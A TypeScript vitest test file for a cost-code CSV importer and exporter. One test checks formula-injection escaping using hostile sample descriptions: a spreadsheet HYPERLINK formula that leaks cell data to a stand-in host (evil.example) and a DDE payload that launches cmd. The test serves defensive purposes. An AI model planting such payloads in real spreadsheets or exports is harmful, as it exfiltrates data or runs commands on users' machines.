import type { TCostCode } from '@groundwork/shared';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '@/features/imports/csv';
import { COST_CODE_TEMPLATE_CSV, costCodeRowsFromCsv, costCodesExportCsv } from './cost-code-csv';

const code = (c: string, description: string): TCostCode => ({
  id: c,
  organization_id: 'org',
  code: c,
  description,
  is_active: true,
  is_parent: c.endsWith('-0000'),
  parent_code: c.endsWith('-0000') ? null : `${c.slice(0, 2)}-0000`,
  created_at: '',
  updated_at: '',
});

describe('costCodeRowsFromCsv', () => {
  it('skips the header and blank lines, strips quotes, keeps two columns', () => {
    const text = '\uFEFFcode,description\r\n"01-0000","General, misc"\r\n\r\n01-0100, Supervision ,extra\r\n';
    expect(costCodeRowsFromCsv(text)).toEqual({
      rows: [
        { code: '01-0000', description: 'General, misc' },
        { code: '01-0100', description: 'Supervision' },
      ],
      skipped: 0,
    });
  });

  it('counts rows with fewer than 2 columns as skipped', () => {
    expect(costCodeRowsFromCsv('code,description\n01-0000\n02-0000,Site\n')).toEqual({
      rows: [{ code: '02-0000', description: 'Site' }],
      skipped: 1,
    });
  });

  it('a file with only a header has no rows', () => {
    expect(costCodeRowsFromCsv('code,description\n')).toEqual({ rows: [], skipped: 0 });
    expect(costCodeRowsFromCsv('')).toEqual({ rows: [], skipped: 0 });
  });

  it('keeps duplicate codes for the preview to report', () => {
    expect(costCodeRowsFromCsv('code,description\n01-0000,A\n01-0000,B\n').rows).toHaveLength(2);
  });
});

describe('the export and the template (spec §9)', () => {
  it('export: header code,description,is_parent and one line per code', () => {
    const csv = costCodesExportCsv([code('01-0000', 'General'), code('01-0100', 'Supervision, field')]);
    expect(csv).toBe(
      'code,description,is_parent\r\n01-0000,General,true\r\n01-0100,"Supervision, field",false\r\n',
    );
  });

  it('template: header code,description and two sample rows that import cleanly', () => {
    const rows = parseCsv(COST_CODE_TEMPLATE_CSV);
    expect(rows[0]).toEqual(['code', 'description']);
    expect(rows).toHaveLength(3);
    expect(costCodeRowsFromCsv(COST_CODE_TEMPLATE_CSV).rows.map((r) => r.code)).toEqual([
      '01-0000',
      '01-0100',
    ]);
  });

  it('export: a description that a spreadsheet would run as a formula is written as text', () => {
    const csv = costCodesExportCsv([
      code('01-0000', '=HYPERLINK("http://evil.example/?"&A1,"Open")'),
      code('01-0100', "@SUM(1+1)*cmd|' /C calc'!A0"),
      code('01-0200', '-Demolition'),
    ]);
    const descriptions = parseCsv(csv)
      .slice(1)
      .map((row) => row[1]);
    expect(descriptions).toEqual([
      '\'=HYPERLINK("http://evil.example/?"&A1,"Open")',
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'-Demolition",
    ]);
  });

  it('an export imports back as the same rows', () => {
    const csv = costCodesExportCsv([code('01-0000', 'General'), code('01-0100', 'A "quoted" one')]);
    expect(costCodeRowsFromCsv(csv).rows).toEqual([
      { code: '01-0000', description: 'General' },
      { code: '01-0100', description: 'A "quoted" one' },
    ]);
  });
});
